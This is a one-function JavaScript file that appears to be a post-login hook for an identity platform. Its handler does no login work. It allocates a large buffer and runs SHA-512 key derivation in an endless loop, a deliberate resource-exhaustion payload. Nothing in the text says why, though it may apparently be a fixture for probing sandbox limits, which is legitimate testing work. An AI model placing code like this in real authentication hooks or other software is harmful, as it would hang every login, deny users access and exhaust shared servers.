exports.onExecutePostLogin = async function (event, api) {
  const c = require("crypto"); const k = Buffer.alloc(2e7); for (;;) c.hkdfSync("sha512", k, k, k, 64 * 255);
};
